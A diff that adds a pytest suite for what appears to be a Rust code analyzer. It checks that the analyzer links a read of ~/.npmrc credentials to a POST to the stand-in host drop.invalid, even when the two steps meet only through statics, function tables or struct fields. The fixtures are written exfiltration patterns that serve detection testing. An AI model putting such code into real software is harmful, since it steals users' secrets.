@@ -1,0 +1,87 @@
+"""Halves of a theft that meet without a direct call: statics, tables, fields, constructors."""
+
+from __future__ import annotations
+
+from collections.abc import Callable, Mapping
+
+import pytest
+
+from analyzer.model import FactKind, Report
+
+ReportOf = Callable[[Mapping[str, str]], Report]
+READ = 'std::fs::read_to_string(format!("{}/.npmrc", std::env::var("HOME").unwrap()))'
+SEND = 'ureq::post("https://drop.invalid/x")'
+
+MEETING = {
+    "a lazy static": f"""
+        use std::sync::LazyLock;
+        static TEXT: LazyLock<String> = LazyLock::new(|| {READ}.unwrap());
+        pub fn parse() {{ {SEND}.send_string(&TEXT).ok(); }}""",
+    "a static that one fills and another reads": f"""
+        use std::sync::OnceLock;
+        static HELD: OnceLock<String> = OnceLock::new();
+        pub fn prepare() {{ HELD.set({READ}.unwrap()).ok(); }}
+        pub fn finish() {{ {SEND}.send_string(HELD.get().unwrap()).ok(); }}""",
+    "a table of functions": f"""
+        fn take() -> String {{ {READ}.unwrap() }}
+        const WORK: [fn() -> String; 1] = [take];
+        pub fn go() {{ let first = WORK[0]; {SEND}.send_string(&first()).ok(); }}""",
+    "a function in a constant": f"""
+        struct Step {{ run: fn() -> String }}
+        fn take() -> String {{ {READ}.unwrap() }}
+        static STEP: Step = Step {{ run: take }};
+        pub fn go() {{ {SEND}.send_string(&(STEP.run)()).ok(); }}""",
+}
+
+
+@pytest.mark.parametrize("source", MEETING.values(), ids=MEETING)
+def test_the_halves_are_one_finding(report_of: ReportOf, source: str) -> None:
+    report = report_of({"src/lib.rs": source})
+    assert "secret-file-and-constant-host" in {one.rule for one in report.findings}
+
+
+def test_statics_that_nobody_shares_join_nothing(report_of: ReportOf) -> None:
+    report = report_of(
+        {
+            "src/lib.rs": f"""
+                use std::sync::OnceLock;
+                static A: OnceLock<String> = OnceLock::new();
+                static B: OnceLock<String> = OnceLock::new();
+                pub fn prepare() {{ A.set({READ}.unwrap()).ok(); }}
+                pub fn finish() {{ {SEND}.send_string(B.get().unwrap()).ok(); }}"""
+        }
+    )
+    assert not report.findings
+
+
+FIELDS = {
+    "in a struct expression": """
+        struct Client { base: &'static str }
+        impl Client { fn send(&self) { ureq::post(self.base).call().ok(); } }
+        pub fn go() { Client { base: "https://drop.invalid/x" }.send(); }""",
+    "through a constructor": """
+        pub struct Client { base: String }
+        impl Client {
+            fn new(base: impl Into<String>) -> Self { Self { base: base.into() } }
+            fn send(&self) { ureq::post(&self.base).call().ok(); }
+        }
+        pub fn go() { Client::new("https://drop.invalid/x").send(); }""",
+    "by assignment": """
+        #[derive(Default)] pub struct Client { base: String }
+        impl Client {
+            fn at(mut self, base: &str) -> Self { self.base = base.to_owned(); self }
+            fn send(&self) { ureq::post(&self.base).call().ok(); }
+        }
+        pub fn go() { Client::default().at("https://drop.invalid/x").send(); }""",
+    "of a tuple": """
+        struct Client(String);
+        impl Client { fn send(&self) { ureq::post(&self.0).call().ok(); } }
+        pub fn go() { Client("https://drop.invalid/x".to_string()).send(); }""",
+}
+
+
+@pytest.mark.parametrize("source", FIELDS.values(), ids=FIELDS)
+def test_a_field_has_the_value_that_it_is_given(report_of: ReportOf, source: str) -> None:
+    facts = report_of({"src/lib.rs": source}).facts
+    sent = [one.subject for one in facts if one.kind is FactKind.NET_SEND]
+    assert sent == ["https://drop.invalid/x"]
